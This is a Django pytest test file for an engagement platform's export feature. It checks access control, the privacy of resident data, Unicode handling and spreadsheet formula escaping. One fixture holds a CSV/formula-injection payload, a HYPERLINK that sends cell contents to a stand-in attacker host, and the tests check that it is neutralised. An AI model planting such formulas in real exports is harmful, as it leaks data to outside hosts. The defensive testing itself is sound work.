"""Exports: made by a real worker, holding only what the requester may see, safe to open.

The world: cycle_a belongs to Organisation A and is private to it, cycle_b to Organisation B
(private too). manager_a exports; the facilitator sees both cycles. Reflections cover every
identity and moderation state, in Georgian, Armenian, Azerbaijani and Romanian, with cells a
spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
import uuid
from dataclasses import dataclass
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import openpyxl
import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from engagements import exports, residents, selectors, tasks
from engagements.models import (
    Adaptation,
    AuditEvent,
    Export,
    LearningCycle,
    Membership,
    Outbox,
    Reflection,
)
from engagements.services import Refused
from tests.conftest import verified_client

GEORGIAN = "ქალაქის ბიბლიოთეკამ დაგვეხმარა"
ARMENIAN = "Գրադարանը մեզ օգնեց"
AZERBAIJANI = "Şəhər kitabxanası bizə kömək etdi"
ROMANIAN = "Mulțumesc: biblioteca ne-a ajutat să găsim o soluție"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EMAIL = "ana.secret@example.org"


@pytest.fixture(autouse=True)
def _export_dir(settings, tmp_path):
    settings.HLS_EXPORT_DIR = tmp_path / "exports"


@dataclass
class Content:
    world: Any
    named: Reflection
    pseudonymous: Reflection
    anonymous: Reflection
    resident_named: Reflection
    resident_anonymous: Reflection
    held: Reflection
    hidden: Reflection
    other_org: Reflection
    adaptation: Adaptation


def _reflection(cycle: LearningCycle, text: str, **fields: Any) -> Reflection:
    fields.setdefault("author_role", Reflection.AuthorRole.PRACTITIONER)
    return Reflection.objects.create(cycle=cycle, stage_id=cycle.stage_id, text=text, **fields)


@pytest.fixture
def content(world) -> Content:
    p = world.personas
    LearningCycle.objects.filter(pk=world.cycle_a.pk).update(title="-Hospital discharge")
    # Names that cannot turn up in the file by chance.
    p.practitioner_a.first_name, p.practitioner_a.last_name = "Zebulon", "Quixotic"
    p.practitioner_a.save()
    named = _reflection(
        world.cycle_a,
        FORMULA,
        author=p.manager_a,
        author_role=Reflection.AuthorRole.MANAGER,
        identity=Reflection.Identity.NAMED,
        principles=["human", "learning"],
    )
    pseudonymous = _reflection(
        world.cycle_a,
        GEORGIAN,
        author=p.practitioner_a,
        identity=Reflection.Identity.PSEUDONYMOUS,
    )
    anonymous = _reflection(
        world.cycle_a,
        ARMENIAN + "\twith a tab",
        author=p.practitioner_a,
        identity=Reflection.Identity.ANONYMOUS,
    )
    resident_named = _reflection(
        world.cycle_a,
        ROMANIAN,
        author_role=Reflection.AuthorRole.RESIDENT,
        identity=Reflection.Identity.NAMED,
        first_name="Ana",
        follow_up_email=EMAIL,
        submission_key=uuid.uuid4(),
        receipt_hash="f" * 64,
        feeling="hopeful",
        better_or_worse="better",
    )
    resident_anonymous = _reflection(
        world.cycle_a,
        "@resident said this\x0b with a control character",
        author_role=Reflection.AuthorRole.RESIDENT,
        identity=Reflection.Identity.ANONYMOUS,
        follow_up_email="hidden.resident@example.org",
    )
    held = _reflection(
        world.cycle_a,
        "HELD words waiting for review",
        author_role=Reflection.AuthorRole.RESIDENT,
        identity=Reflection.Identity.ANONYMOUS,
        moderation=Reflection.Moderation.HELD,
    )
    hidden = _reflection(
        world.cycle_a,
        "HIDDEN words a facilitator hid",
        author_role=Reflection.AuthorRole.RESIDENT,
        identity=Reflection.Identity.ANONYMOUS,
        moderation=Reflection.Moderation.HIDDEN,
    )
    other_org = _reflection(
        world.cycle_b, "PRIVATE to Organisation B", author=p.manager_b, identity="named"
    )
    adaptation = Adaptation.objects.create(
        cycle=world.cycle_a,
        what_changed=AZERBAIJANI,
        because="+SUM(1,2)",
        decided_by="@team",
        decided_on=timezone.localdate(),
        recorded_by=p.manager_a,
    )
    adaptation.reflections.set([named, held])
    return Content(
        world,
        named,
        pseudonymous,
        anonymous,
        resident_named,
        resident_anonymous,
        held,
        hidden,
        other_org,
        adaptation,
    )


# --- reading the files back -----------------------------------------------------------------

KEY_BY_LABEL = {str(label): key for key, label in exports.LABELS.items()}
KIND_BY_RECORD = {str(kind.record): kind.key for kind in exports.KINDS}
KIND_BY_SHEET = {str(kind.sheet): kind.key for kind in exports.KINDS}


def _parse(fmt: str, data: bytes) -> dict[str, list[dict[str, Any]]]:
    """Each kind's records, keyed by column key, whatever the format."""
    parsed: dict[str, list[dict[str, Any]]] = {kind.key: [] for kind in exports.KINDS}
    if fmt == "csv":
        assert data.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would guess"
        reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        for row in reader:
            record = {KEY_BY_LABEL[label]: value for label, value in row.items()}
            parsed[KIND_BY_RECORD[record.pop("record")]].append(record)
    elif fmt == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        assert [KIND_BY_SHEET[name] for name in workbook.sheetnames] == [
            "cycles",
            "reflections",
            "adaptations",
        ]
        for sheet in workbook.worksheets:
            rows = list(sheet.iter_rows(values_only=True))
            header = [KEY_BY_LABEL[label] for label in rows[0]]
            for values in rows[1:]:
                parsed[KIND_BY_SHEET[sheet.title]].append(
                    {k: "" if v is None else v for k, v in zip(header, values, strict=True)}
                )
    else:
        document = json.loads(data.decode("utf-8"))
        assert document["engagement"]["title"]
        for kind in exports.KINDS:
            parsed[kind.key] = document[kind.key]
    return parsed


def _texts(parsed: dict[str, list[dict[str, Any]]]) -> list[str]:
    return [str(r["text"]) for r in parsed["reflections"]]


def _check_content(fmt: str, parsed: dict[str, list[dict[str, Any]]], content: Content) -> None:
    p = content.world.personas
    quote_mark = "" if fmt == "json" else "'"
    cycles = parsed["cycles"]
    assert [c["cycle"] for c in cycles] == [quote_mark + "-Hospital discharge"]
    texts = _texts(parsed)
    # Only what manager_a may see: published reflections of cycle_a, nothing of cycle_b.
    assert len(texts) == 5
    assert not any("PRIVATE" in t or "HELD" in t or "HIDDEN" in t for t in texts)
    by_text = {str(r["text"]).lstrip("'"): r for r in parsed["reflections"]}
    # Formula-like cells lead with a quote in spreadsheets; JSON keeps the words as they are.
    assert quote_mark + FORMULA in texts
    # Unicode round-trips in every script.
    assert GEORGIAN in texts
    assert ARMENIAN + "\twith a tab" in texts
    assert ROMANIAN in texts
    # Identity: named staff by name, pseudonym, anonymous without author, residents by choice.
    assert by_text[FORMULA]["author"] == selectors.display_name(p.manager_a)
    pseudonym = selectors.pseudonym(p.practitioner_a.pk, content.world.engagement.pk)
    assert by_text[GEORGIAN]["author"] == pseudonym
    assert by_text[ARMENIAN + "\twith a tab"]["author"] == "Anonymous"
    assert by_text[ROMANIAN]["author"] == "Ana"
    assert by_text[ROMANIAN]["feeling"] == "Hopeful"
    if fmt == "xlsx":
        # Control characters are taken out (Excel would refuse the workbook).
        assert "@resident said this with a control character" in by_text
    else:
        assert "@resident said this\x0b with a control character" in by_text
    resident = next(r for k, r in by_text.items() if k.startswith("@resident"))
    assert resident["author"] == "A resident"
    # The adaptation cites only the reflection manager_a may see (not the held one).
    (adaptation,) = parsed["adaptations"]
    assert adaptation["what_changed"] == AZERBAIJANI
    assert adaptation["because"] == quote_mark + "+SUM(1,2)"
    assert adaptation["decided_by"] == quote_mark + "@team"
    cited = adaptation["prompted_by_reflections"]
    if isinstance(cited, str):
        cited = [part.strip() for part in cited.split(";") if part.strip()]
    assert cited == [str(content.named.public_id)]


def _forbidden_in(data: bytes, content: Content) -> list[str]:
    """Anything of what must never leave the database that the file holds."""
    p = content.world.personas
    text = data.decode("utf-8-sig", errors="replace")
    if data.startswith(b"PK"):  # an XLSX: look inside its XML
        import zipfile

        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            text = "".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    secrets = [
        EMAIL,
        "hidden.resident@example.org",
        "f" * 64,
        str(content.resident_named.submission_key),
        p.practitioner_a.username,
        "Zebulon",
        "Quixotic",
        p.manager_b.username,
    ]
    return [secret for secret in secrets if secret and secret in text]


def _wait_until(predicate, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError("timed out waiting for the worker")
        time.sleep(0.05)


def _download(client, export: Export) -> tuple[Any, bytes]:
    response = client.get(reverse("engagements:export_download", args=[export.public_id]))
    assert response.status_code == 200, response.status_code
    return response, b"".join(response.streaming_content)


def _finished(export_id: int) -> bool:
    return Export.objects.get(pk=export_id).status not in exports.RUNNING


# --- through a real worker ------------------------------------------------------------------


@pytest.mark.worker
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_each_format_is_made_by_a_real_worker_and_holds_what_the_requester_may_see(
    content, celery_worker, fmt
):
    client = verified_client(content.world.personas.manager_a)
    url = reverse("engagements:exports", args=[content.world.engagement.public_id])
    response = client.post(url, {"format": fmt})
    export = Export.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("engagements:export", args=[export.public_id])
    _wait_until(lambda: _finished(export.pk))
    export.refresh_from_db()
    assert export.status == Export.Status.DONE, export.error
    assert export.rows_done == export.rows_total == 1 + 5 + 1
    assert Outbox.objects.get(task=exports.EXPORT).done is not None

    response, data = _download(client, export)
    assert response["Content-Type"] == exports.CONTENT_TYPES[fmt]
    assert response["Content-Disposition"].startswith('attachment; filename="learning-together-')
    assert response["Content-Disposition"].endswith(f".{fmt}")
    assert "no-store" in response["Cache-Control"]
    _check_content(fmt, _parse(fmt, data), content)
    assert _forbidden_in(data, content) == []
    if fmt == "csv":
        assert b"\r\n" in data
        assert b"\n" not in data.replace(b"\r\n", b"")
    # The page shows it ready, with the link.
    page = client.get(reverse("engagements:export", args=[export.public_id]))
    assert "Your export is ready." in page.content.decode()
    assert 'hx-trigger="every 2s"' not in page.content.decode()


@pytest.mark.worker
def test_an_export_asked_for_while_the_broker_is_down_runs_from_the_outbox(
    content, celery_worker, monkeypatch
):
    # The request cannot reach Redis: the outbox row waits for the sweeper.
    monkeypatch.setattr(residents, "_broker_down_until", time.monotonic() + 3600)
    client = verified_client(content.world.personas.manager_a)
    url = reverse("engagements:exports", args=[content.world.engagement.public_id])
    assert client.post(url, {"format": "csv"}).status_code == 302
    export = Export.objects.get()
    assert export.status == Export.Status.QUEUED
    Outbox.objects.filter(task=exports.EXPORT).update(created=timezone.now() - timedelta(minutes=1))
    assert tasks.sweep_outbox() == 1
    _wait_until(lambda: _finished(export.pk))
    assert Export.objects.get(pk=export.pk).status == Export.Status.DONE


@pytest.mark.worker
def test_an_export_whose_job_message_was_lost_is_made_by_the_sweeper(content, transactional_db):
    from celery.contrib.testing.worker import start_worker

    from hls.celery import app

    export, _created = exports.request_export(
        user=content.world.personas.manager_a, engagement=content.world.engagement, fmt="csv"
    )
    job = Outbox.objects.get(task=exports.EXPORT)
    # The outbox hands the job to the broker, and Redis loses the message before any worker
    # takes it (a flush, a failover without persistence).
    assert tasks.run_outbox(job.pk) == "started"
    assert app.control.purge() >= 1
    job.refresh_from_db()
    assert job.done is None, "the outbox row waits for the export's own job to end"
    with start_worker(app, pool="solo", perform_ping_check=False, shutdown_timeout=10):
        # Within the quarter of an hour the sweeper leaves it be; after it, hands it out again.
        assert tasks.sweep_outbox() == 0
        with time_machine.travel(timezone.now() + timedelta(minutes=16)):
            assert tasks.sweep_outbox() == 1
        _wait_until(lambda: _finished(export.pk))
    assert Export.objects.get(pk=export.pk).status == Export.Status.DONE
    job.refresh_from_db()
    assert job.done is not None
    with time_machine.travel(timezone.now() + timedelta(minutes=32)):
        assert tasks.sweep_outbox() == 0


def test_an_export_whose_worker_died_is_made_again_once_then_fails(content):
    export, _created = exports.request_export(
        user=content.world.personas.manager_a, engagement=content.world.engagement, fmt="csv"
    )
    # A worker started it and died (killed by the time limit, or the machine went down).
    Export.objects.filter(pk=export.pk).update(status=Export.Status.RUNNING, rows_done=3)
    assert exports.build(export.pk) == "done"
    export.refresh_from_db()
    assert export.status == Export.Status.DONE
    assert export.error == ""
    assert exports.file_path(export) is not None

    second, _created = exports.request_export(
        user=content.world.personas.manager_a, engagement=content.world.engagement, fmt="json"
    )
    # Died once, made again, and died again while being made the second time.
    Export.objects.filter(pk=second.pk).update(
        status=Export.Status.RUNNING, error=exports.RESTARTED
    )
    assert exports.build(second.pk) == "interrupted"
    second.refresh_from_db()
    assert second.status == Export.Status.FAILED
    assert "interrupted twice" in exports.error_message(second)
    assert not Outbox.objects.filter(task=exports.EXPORT, done=None).exists()


# --- the job, run here ----------------------------------------------------------------------


def _export(user, engagement, fmt="csv") -> Export:
    export, created = exports.request_export(user=user, engagement=engagement, fmt=fmt)
    assert created
    assert exports.build(export.pk) == "done"
    export.refresh_from_db()
    return export


def test_the_facilitator_sees_both_organisations_cycles_and_a_member_only_theirs(content):
    world = content.world
    mine = _export(world.personas.manager_a, world.engagement, "json")
    theirs = _export(world.personas.facilitator, world.engagement, "json")
    read = exports.file_path
    mine_data = json.loads(read(mine).read_bytes())  # type: ignore[union-attr]
    theirs_data = json.loads(read(theirs).read_bytes())  # type: ignore[union-attr]
    assert {c["organisation"] for c in mine_data["cycles"]} == {"Organisation A"}
    assert {c["organisation"] for c in theirs_data["cycles"]} == {
        "Organisation A",
        "Organisation B",
    }
    assert "PRIVATE to Organisation B" not in [r["text"] for r in mine_data["reflections"]]
    assert "PRIVATE to Organisation B" in [r["text"] for r in theirs_data["reflections"]]


def test_a_shared_cycle_of_another_partner_is_included(content):
    world = content.world
    LearningCycle.objects.filter(pk=world.cycle_b.pk).update(
        visibility=LearningCycle.Visibility.ENGAGEMENT
    )
    export = _export(world.personas.manager_a, world.engagement, "json")
    data = json.loads(exports.file_path(export).read_bytes())  # type: ignore[union-attr]
    assert "PRIVATE to Organisation B" in [r["text"] for r in data["reflections"]]


def test_xlsx_string_cells_are_text_never_formulas(content):
    export = _export(content.world.personas.manager_a, content.world.engagement, "xlsx")
    workbook = openpyxl.load_workbook(exports.file_path(export))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_a_second_copy_of_the_job_does_nothing(content):
    export = _export(content.world.personas.manager_a, content.world.engagement)
    assert exports.build(export.pk) == "skipped"
    assert exports.build(10**9) == "skipped"


def test_someone_who_left_the_engagement_gets_no_file(content):
    world = content.world
    export, _created = exports.request_export(
        user=world.personas.manager_a, engagement=world.engagement, fmt="csv"
    )
    Membership.objects.filter(user=world.personas.manager_a).delete()
    assert exports.build(export.pk) == "no_access"
    export.refresh_from_db()
    assert export.status == Export.Status.FAILED
    assert exports.file_path(export) is None


def test_the_file_name_is_safe_ascii_with_the_title_in_utf8(content):
    world = content.world
    world.engagement.title = 'Თბილისი "learning"/Երևան; Bacău'
    world.engagement.save()
    export = _export(world.personas.manager_a, world.engagement)
    client = verified_client(world.personas.manager_a)
    response, _data = _download(client, export)
    disposition = response["Content-Disposition"]
    day = timezone.localdate(export.created).isoformat()
    ascii_name, name = exports.download_names(export)
    assert ascii_name == f"learning-bacau-{day}.csv"
    assert disposition == (
        f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(name, safe='')}"
    )
    assert disposition.isascii()
    assert "/" not in name
    assert '"' not in name


# --- who may see what -----------------------------------------------------------------------


def test_an_export_is_its_requesters_alone(content):
    world = content.world
    export = _export(world.personas.manager_a, world.engagement)
    for person in (
        world.personas.practitioner_a,
        world.personas.facilitator,
        world.personas.outsider,
    ):
        client = verified_client(person)
        for name in ("export", "export_download"):
            response = client.get(reverse(f"engagements:{name}", args=[export.public_id]))
            assert response.status_code == 404, (person.username, name)
    assert (
        AuditEvent.objects.filter(
            action="access.denied", object_type="export", object_id=str(export.public_id)
        ).count()
        == 6
    )
    anonymous = client.__class__()
    response = anonymous.get(reverse("engagements:export_download", args=[export.public_id]))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_an_engagement_not_theirs_is_404(content):
    client = verified_client(content.world.personas.outsider)
    url = reverse("engagements:exports", args=[content.world.engagement.public_id])
    assert client.get(url).status_code == 404
    assert client.post(url, {"format": "csv"}).status_code == 404
    assert not Export.objects.exists()


def test_an_expired_link_answers_410_with_a_way_to_make_a_new_one(content):
    world = content.world
    export = _export(world.personas.manager_a, world.engagement)
    with time_machine.travel(timezone.now() + timedelta(hours=25)):
        client = verified_client(world.personas.manager_a)
        response = client.get(reverse("engagements:export_download", args=[export.public_id]))
        assert response.status_code == 410
        page = response.content.decode()
        assert "This export has expired" in page
        assert reverse("engagements:exports", args=[world.engagement.public_id]) in page
        status = client.get(reverse("engagements:export", args=[export.public_id]))
        assert "This export has expired." in status.content.decode()


# --- the page and its progress --------------------------------------------------------------


def test_progress_is_polled_while_running_and_polling_stops_when_done(content):
    world = content.world
    export, _created = exports.request_export(
        user=world.personas.manager_a, engagement=world.engagement, fmt="xlsx"
    )
    Export.objects.filter(pk=export.pk).update(
        status=Export.Status.RUNNING, rows_total=2000, rows_done=500
    )
    client = verified_client(world.personas.manager_a)
    url = reverse("engagements:export", args=[export.public_id])
    page = client.get(url).content.decode()
    assert 'hx-trigger="every 2s"' in page
    assert 'aria-live="polite"' in page
    partial = client.get(url, headers={"HX-Request": "true"})
    assert partial.status_code == 200
    body = partial.content.decode()
    assert '<progress max="2000" value="500"' in body
    assert "Being prepared: 500 of 2,000 rows." in body
    assert "<html" not in body

    assert exports.build(export.pk) == "done"
    finished = client.get(url, headers={"HX-Request": "true"})
    assert finished.status_code == 286  # htmx stops polling
    assert "Your export is ready." in finished.content.decode()
    assert "<progress" not in finished.content.decode()


def test_a_double_click_reuses_the_running_export(content):
    world = content.world
    client = verified_client(world.personas.manager_a)
    url = reverse("engagements:exports", args=[world.engagement.public_id])
    first = client.post(url, {"format": "csv"})
    second = client.post(url, {"format": "csv"}, follow=True)
    assert Export.objects.count() == 1
    assert first["Location"] == second.redirect_chain[0][0]
    assert "already being prepared" in second.content.decode()
    assert Outbox.objects.filter(task=exports.EXPORT).count() == 1
    # Still waiting a few minutes later: its job may have been lost, so it is sent again.
    with time_machine.travel(timezone.now() + timedelta(minutes=3)):
        again = verified_client(world.personas.manager_a).post(url, {"format": "csv"})
    assert again["Location"] == first["Location"]
    assert Export.objects.count() == 1
    assert Outbox.objects.filter(task=exports.EXPORT).count() == 2
    assert client.post(url, {"format": "json"}).status_code == 302
    assert Export.objects.count() == 2


@pytest.mark.parametrize("value", ["", "pdf", "csv\x00", "x" * 10_000, "CSV"])
def test_an_unknown_format_is_a_clear_400(content, value):
    client = verified_client(content.world.personas.manager_a)
    url = reverse("engagements:exports", args=[content.world.engagement.public_id])
    response = client.post(url, {"format": value})
    assert response.status_code == 400
    assert "There is a problem" in response.content.decode()
    assert not Export.objects.exists()
    with pytest.raises(Refused):
        exports.request_export(
            user=content.world.personas.manager_a, engagement=content.world.engagement, fmt=value
        )


def test_a_huge_request_body_is_400_not_500(content, settings):
    client = verified_client(content.world.personas.manager_a)
    url = reverse("engagements:exports", args=[content.world.engagement.public_id])
    body = "format=csv&padding=" + "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10)
    response = client.post(url, body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 400
    assert "too large" in response.content.decode().lower()
    assert not Export.objects.exists()


def test_an_export_past_the_row_limit_is_refused_with_the_reason(content, settings):
    settings.HLS_EXPORT_MAX_ROWS = 3
    client = verified_client(content.world.personas.manager_a)
    url = reverse("engagements:exports", args=[content.world.engagement.public_id])
    response = client.post(url, {"format": "xlsx"})
    assert response.status_code == 200
    assert "There is a problem" in response.content.decode()
    assert "This export would hold 7 rows, more than the 3 one export may hold" in (
        response.content.decode()
    )
    assert not Export.objects.exists()


def test_the_export_page_lists_the_formats_and_recent_exports(content):
    world = content.world
    _export(world.personas.manager_a, world.engagement)
    client = verified_client(world.personas.manager_a)
    page = client.get(reverse("engagements:exports", args=[world.engagement.public_id]))
    html = page.content.decode()
    assert page.status_code == 200
    for value in ("csv", "xlsx", "json"):
        assert f'value="{value}"' in html
    assert "Your recent exports" in html
    detail = client.get(reverse("engagements:engagement", args=[world.engagement.public_id]))
    assert reverse("engagements:exports", args=[world.engagement.public_id]) in (
        detail.content.decode()
    )


# --- in the browser -------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.worker
def test_a_member_exports_csv_in_the_browser_and_opens_it(content, celery_worker, page):
    from playwright.sync_api import expect

    from tests.conftest import assert_accessible
    from tests.factories import PASSWORD

    world = content.world
    page.goto("/accounts/login/")
    page.get_by_label("Username").fill(world.personas.manager_a.username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.goto(reverse("engagements:engagement", args=[world.engagement.public_id]))
    page.get_by_role("link", name="Export").click()
    expect(page.get_by_role("heading", name="Export Learning together")).to_be_visible()
    assert_accessible(page, "on the export page")
    page.get_by_label("CSV").check()
    page.get_by_role("button", name="Make the export").click()
    expect(page.get_by_text("Your export is ready.")).to_be_visible(timeout=30_000)
    assert_accessible(page, "on the finished export")
    with page.expect_download() as download_info:
        page.get_by_role("link", name=re.compile("Download the CSV file")).click()
    download = download_info.value
    assert download.suggested_filename.startswith("Learning together ")
    data = download.path().read_bytes()
    _check_content("csv", _parse("csv", data), content)


def test_a_folder_that_cannot_be_written_fails_the_export_visibly(content, settings, tmp_path):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the folder should be")
    settings.HLS_EXPORT_DIR = blocker / "exports"
    export, _created = exports.request_export(
        user=content.world.personas.manager_a, engagement=content.world.engagement, fmt="csv"
    )
    assert exports.build(export.pk) == "failed"
    export.refresh_from_db()
    assert export.status == Export.Status.FAILED
    client = verified_client(content.world.personas.manager_a)
    page = client.get(reverse("engagements:export", args=[export.public_id])).content.decode()
    assert "The export could not be made." in page
    assert "Something went wrong on our side" in page
